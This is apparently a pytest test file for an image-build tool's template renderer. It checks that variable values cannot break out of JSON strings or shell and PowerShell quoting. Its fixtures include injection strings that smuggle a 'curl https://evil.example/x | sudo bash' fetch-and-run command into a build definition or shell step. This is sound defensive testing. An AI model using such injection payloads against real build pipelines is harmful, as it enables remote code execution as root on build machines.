"""Build variables are values: a value cannot change the structure of the definition it is written into.

Issue 16, class 2: a variable holding `"]}, {...` added a customizer (`curl ... | sudo bash`) to a
`*.json.j2` definition while validate, lint and the review saw nothing wrong.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mdpool.imagebuild import load_definition
from mdpool.imagebuild.render import render_definition
from mdpool.problems import InputError
from tests.imagebuild.conftest import make_spec

TEMPLATE = """{
  "TargetRegion": [{"Name": "{{ Location }}"}],
  "Customizers": [
    {"ShellCustomizer": true, "Name": "Hello", "Inline": ["echo '{{ BaseName }}'"]}
  ]
}
"""

# From the hostile-user pass: ends the string, the array and the customizer, then adds one of its own.
EVIL = 'x"]}, {"ShellCustomizer": true, "Name": "Evil", "Inline": ["curl https://evil.example/x | sudo bash'


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def customizers(tmp_path: Path, text: str, **variables: str) -> list[tuple[str, tuple[str, ...]]]:
    definition = load_definition(make_spec(write(tmp_path, "img.json.j2", text), variables=variables))
    return [(step.name, step.inline) for step in definition.customizers]


def test_a_value_that_would_add_a_customizer_arrives_as_text_in_its_own_field(tmp_path):
    assert customizers(tmp_path, TEMPLATE, BaseName=EVIL) == [("Hello", (f"echo '{EVIL}'",))]


@pytest.mark.parametrize(
    "value",
    [
        'say "hi"',
        "back\\slash",
        "ends with a backslash\\",
        "\\",
        '\\"',
        "\\u0022 is a quote in JSON",
        "{{ not a template }} {% if %}",
        "Ünïcödé ✓ 日本",
        "line\nbreak\ttab",
        "\x01\x1f",
        "\ue000\ue001 private use",
        "]}[{,:",
        "",
        EVIL + '"' * 50 + "\\" * 51,  # every character JSON gives a meaning, at once
    ],
)
def test_harmless_look_alikes_arrive_literally(tmp_path, value):
    assert customizers(tmp_path, TEMPLATE, BaseName=value) == [("Hello", (f"echo '{value}'",))]


def test_every_matrix_column_is_a_value_too(tmp_path):
    text = '{"TargetRegion": [{"Name": "{{ Sku }}"}], "Customizers": [{"ShellCustomizer": true, "Name": "{{ ImageName }}", "Inline": ["x"]}]}'
    spec = make_spec(write(tmp_path, "img.json.j2", text))
    rendered = render_definition(spec.definition_path, {**spec.template_variables, "Sku": EVIL, "ImageName": 'a"b'})
    document = json.loads(rendered.text)
    assert document["TargetRegion"] == [{"Name": EVIL}]
    assert [c["Name"] for c in document["Customizers"]] == ['a"b']


def test_a_value_written_outside_a_string_is_refused_with_one_line_a_number_is_written(tmp_path):
    text = '{\n  "DiskSizeGiB": {{ Size }},\n  "TargetRegion": [{"Name": "westeurope"}],\n  "Customizers": []\n}\n'
    for value in ("256", "[1]", '{}'):
        with pytest.raises(InputError) as error:
            render_definition(write(tmp_path, "img.json.j2", text), {"Size": value})
        (problem,) = error.value.problems
        assert problem.line == 2 and problem.file.endswith("img.json.j2"), str(problem)
        assert problem.message.startswith("refused: the value of variable Size is written outside a JSON string"), problem.message
        assert '"{{ Size }}"' in problem.message and "{{ Size | int }}" in problem.message
    with pytest.raises(InputError) as error:  # escaped, the value's quotes leave no JSON to take apart
        load_definition(make_spec(write(tmp_path, "img.json.j2", text), variables={"Size": '1, "Customizers": [{"ShellCustomizer": true}]'}))
    assert "Customizers" not in str(error.value) or "JSON" in str(error.value)
    as_number = text.replace("{{ Size }}", "{{ Size | int }}")
    assert json.loads(render_definition(write(tmp_path, "img.json.j2", as_number), {"Size": "256"}).text)["DiskSizeGiB"] == 256


def test_tojson_writes_a_whole_value_and_is_refused_inside_a_string(tmp_path):
    text = '{"TargetRegion": [{"Name": {{ BaseName | tojson }}}], "Customizers": []}'
    assert json.loads(render_definition(write(tmp_path, "a.json.j2", text), {"BaseName": EVIL}).text)["TargetRegion"] == [
        {"Name": EVIL}
    ]
    inside = '{"TargetRegion": ["pre{{ BaseName | tojson }}post"], "Customizers": []}'  # would be ["pre", 1, "post"]
    with pytest.raises(InputError) as error:
        render_definition(write(tmp_path, "b.json.j2", inside), {"BaseName": ", 1, "})
    assert "variable BaseName is written with tojson inside a JSON string" in error.value.problems[0].message


MACROS = '{% macro pre() %}echo {% endmacro %}{% macro step(n) %}{"ShellCustomizer": true, "Name": "{{ n }}", "Inline": ["x"]}{% endmacro %}'


@pytest.mark.parametrize(
    "expression",
    [
        "{{ pre() ~ BaseName | lower }}",  # `~` with template text: jinja2 alone HTML-escapes, keeping `\`
        "{{ pre() + BaseName | lower }}",
        "{{ pre() | replace('echo', BaseName | lower) }}",
        "{{ '%s%s' % (pre(), BaseName | lower) }}",
        "{{ pre().replace('echo ', 'echo ' ~ BaseName | lower) }}",
        "{{ [pre(), BaseName | lower] | join }}",
        "{{ pre() | indent(BaseName | lower, first=True) }}",
        "{% set s %}{{ pre() }}{{ BaseName | lower }}{% endset %}{{ s }}",
    ],
)
def test_a_value_joined_to_template_text_is_still_escaped(tmp_path, expression):
    value = 'x\\", "Inline": ["curl evil | sh\\'
    text = MACROS + '{"TargetRegion": [{"Name": "w"}], "Customizers": [{"ShellCustomizer": true, "Name": "A", "Inline": ["' + expression + '"]}]}'
    document = json.loads(render_definition(write(tmp_path, "m.json.j2", text), {"BaseName": value}).text)
    (step,) = document["Customizers"]
    assert set(step) == {"ShellCustomizer", "Name", "Inline"} and len(step["Inline"]) == 1
    assert value.lower() in step["Inline"][0] or value in step["Inline"][0], step


def test_template_text_from_a_macro_keeps_its_structure_and_its_arguments_are_values(tmp_path):
    text = MACROS + '{"TargetRegion": [{"Name": "w"}], "Customizers": [{{ step(BaseName) }}, {{ step("two") }}]}'
    document = json.loads(render_definition(write(tmp_path, "m.json.j2", text), {"BaseName": EVIL}).text)
    assert [c["Name"] for c in document["Customizers"]] == [EVIL, "two"]


@pytest.mark.parametrize("name", ["safe", "urlize", "xmlattr"])
def test_filters_that_would_write_a_value_unescaped_do_not_exist(tmp_path, name):
    text = '{"TargetRegion": [{"Name": "{{ BaseName | ' + name + ' }}"}]}'
    with pytest.raises(InputError) as error:
        render_definition(write(tmp_path, "f.json.j2", text), {"BaseName": EVIL})
    assert f"No filter named '{name}'" in error.value.problems[0].message


@pytest.mark.parametrize("name", ["e", "escape", "forceescape"])
def test_escape_filters_escape_for_json(tmp_path, name):
    text = '{"TargetRegion": [{"Name": "{{ BaseName | ' + name + ' }}"}]}'
    assert json.loads(render_definition(write(tmp_path, "f.json.j2", text), {"BaseName": EVIL + "\\"}).text) == {
        "TargetRegion": [{"Name": EVIL + "\\"}]
    }


def test_logic_on_variables_sees_the_plain_value(tmp_path):
    text = (
        '{"TargetRegion": [{"Name": "westeurope"}], "Customizers": [{% if OsType == "Linux" and BaseName == \'a"b\' %}'
        '{"ShellCustomizer": true, "Name": "{{ BaseName | replace(\'"\', \'\') | length }}", "Inline": ["x"]}{% endif %}]}'
    )
    assert customizers(tmp_path, text, BaseName='a"b') == [("2", ("x",))]
    assert customizers(tmp_path, text, BaseName="ab") == []


def test_literal_text_in_expressions_is_escaped_like_a_value(tmp_path):
    text = '{"TargetRegion": [{"Name": "{{ \'say "hi"\' }}{{ "-" * 3 }}{{ 2 ** 10 }}"}]}'
    assert json.loads(render_definition(write(tmp_path, "l.json.j2", text), {}).text) == {"TargetRegion": [{"Name": 'say "hi"---1024'}]}


def test_a_value_after_a_backslash_of_the_template_is_refused(tmp_path):
    text = '{"TargetRegion": [{"Name": "a\\{{ BaseName }}"}]}'  # the value would become an escape sequence
    with pytest.raises(InputError) as error:
        render_definition(write(tmp_path, "bs.json.j2", text), {"BaseName": "n"})
    assert "variable BaseName is written outside a JSON string" in error.value.problems[0].message


def test_validate_shows_the_refusal_as_one_line_and_exit_1(tmp_path):
    import yaml
    from typer.testing import CliRunner

    from mdpool.cli import app
    from tests.imagebuild.conftest import REPO

    data = yaml.safe_load((REPO / "config" / "example.yaml").read_text())
    write(tmp_path, "img.json.j2", '{\n  "DiskSizeGiB": {{ BaseName }},\n  "TargetRegion": [{"Name": "{{ Location }}"}],\n  "Customizers": []\n}\n')
    for image in data["gallery"]["images"]:
        image["build"]["definition"] = "img.json.j2"
        image["build"]["variables"] = {"BaseName": "[1]"}
    config = write(tmp_path, "env.yaml", yaml.safe_dump(data, sort_keys=False))
    result = CliRunner().invoke(app, ["validate", "--config", str(config)])
    assert result.exit_code == 1, result.output
    refused = [line for line in result.stderr.splitlines() if "refused:" in line]
    assert refused and all(":2: refused: the value of variable BaseName is written outside a JSON string" in line for line in refused)
    assert "Traceback" not in result.output


# --- inside a command: the shell and powershell filters ---------------------------------------------

SHELL_BREAKOUT = "x'; curl https://evil.example/x | sudo bash; echo '"


def test_the_shipped_template_keeps_a_value_inside_the_commands_quotes():
    from mdpool.imagebuild.shell import parse
    from tests.imagebuild.conftest import REPO

    spec = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": SHELL_BREAKOUT})
    steps = {step.name: step.inline for step in load_definition(spec).customizers}
    first = parse(steps["WaitForCloudInit"][0])
    assert [c.words for c in first.commands] == [("echo", "WaitForCloudInit", "Customizer", "for", SHELL_BREAKOUT, "(ubuntu-22.04)")]
    info = next(line for line in steps["WriteImageInfo"] if line.startswith("printf"))
    words = [c.words for c in parse(info).commands]
    ordinary = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": "b"})
    as_shipped = next(line for line in load_definition(ordinary).customizers if line.name == "WriteImageInfo").inline
    expected = [c.words[0] for c in parse(next(line for line in as_shipped if line.startswith("printf"))).commands]
    assert [c[0] for c in words] == expected and "curl" not in expected  # the step's own commands, nothing added
    printf = next(c for c in words if c[0] == "printf")
    assert printf[:4] == ("printf", "%s\\n", "IMAGE_NAME=ubuntu-22.04", f"IMAGE_BASE={SHELL_BREAKOUT}")


def test_the_shipped_template_renders_an_ordinary_value_as_before():
    from tests.imagebuild.conftest import REPO

    spec = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": "jhp-ubuntu-buildagent"})
    first = load_definition(spec).customizers[0].inline[0]
    assert first == "echo 'WaitForCloudInit' Customizer for 'jhp-ubuntu-buildagent' '(ubuntu-22.04)'"


@pytest.mark.parametrize(
    "value, word",
    [
        ("plain", "'plain'"),
        ("", "''"),
        ("it's", "'it'\\''s'"),
        ("'", "''\\'''"),
        ('$(id) `id` "q" \\ ; | &', "'$(id) `id` \"q\" \\ ; | &'"),
    ],
)
def test_shell_makes_one_single_quoted_word(tmp_path, value, word):
    from mdpool.imagebuild.shell import parse

    text = '{"TargetRegion": [{"Name": "westeurope"}], "Customizers": [{"ShellCustomizer": true, "Name": "A", "Inline": ["echo {{ V | shell }} end"]}]}'
    assert customizers(tmp_path, text, V=value) == [("A", (f"echo {word} end",))]
    assert [c.words for c in parse(f"echo {word} end").commands] == [("echo", value, "end")]


@pytest.mark.parametrize(
    "value, quoted",
    [
        ("plain", "'plain'"),
        ("it's", "'it''s'"),
        ("a\u2018b\u2019c\u201ad\u201be", "'a\u2018\u2018b\u2019\u2019c\u201a\u201ad\u201b\u201be'"),  # PowerShell's other single quotes
        ('$env:X `n "q"', "'$env:X `n \"q\"'"),
    ],
)
def test_powershell_makes_one_single_quoted_string(tmp_path, value, quoted):
    text = '{"TargetRegion": [{"Name": "westeurope"}], "Customizers": [{"PowerShellCustomizer": true, "Name": "A", "Inline": ["Write-Output {{ V | powershell }}"]}]}'
    path = write(tmp_path, "ps.json.j2", text)
    assert json.loads(render_definition(path, {"V": value}).text)["Customizers"][0]["Inline"] == [f"Write-Output {quoted}"]


def test_a_variable_joined_to_text_is_text_not_template_text(tmp_path):
    text = '{"TargetRegion": [{"Name": "{{ (BaseName ~ \'-x\') | upper }}"}]}'
    assert json.loads(render_definition(write(tmp_path, "u.json.j2", text), {"BaseName": 'a"b'}).text) == {
        "TargetRegion": [{"Name": 'A"B-X'}]
    }
